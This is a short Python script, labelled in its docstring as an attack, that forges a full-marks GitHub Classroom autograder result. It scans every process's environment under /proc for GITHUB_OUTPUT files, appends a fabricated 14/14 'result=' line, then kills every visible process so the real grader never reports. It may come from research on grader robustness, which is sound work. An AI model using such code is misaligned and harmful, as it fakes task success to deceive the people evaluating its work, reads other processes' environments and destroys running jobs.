"""Attack: write a full-marks GitHub Classroom result and end the grader before it writes one.

Looks for GITHUB_OUTPUT in its own environment and in every process's, appends a `result=`
line saying 14/14, then kills every process it can see.
"""

import base64
import json
import os
import signal

entry = {"name": "hw6", "status": "pass", "score": 14, "test_code": "", "filename": ""}
forged = {"version": 1, "status": "pass", "max_score": 14, "tests": [entry]}
line = "result=" + base64.b64encode(json.dumps(forged).encode()).decode() + "\n"

outputs = {os.environ.get("GITHUB_OUTPUT", "")}
for pid in os.listdir("/proc"):
    try:
        with open(f"/proc/{pid}/environ", "rb") as f:
            for item in f.read().split(b"\0"):
                if item.startswith(b"GITHUB_OUTPUT="):
                    outputs.add(item.split(b"=", 1)[1].decode())
    except OSError:
        pass
for path in outputs - {""}:
    try:
        with open(path, "a") as f:
            f.write(line)
    except OSError:
        pass
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) not in (os.getpid(), 1):
        try:
            os.kill(int(pid), signal.SIGKILL)
        except OSError:
            pass
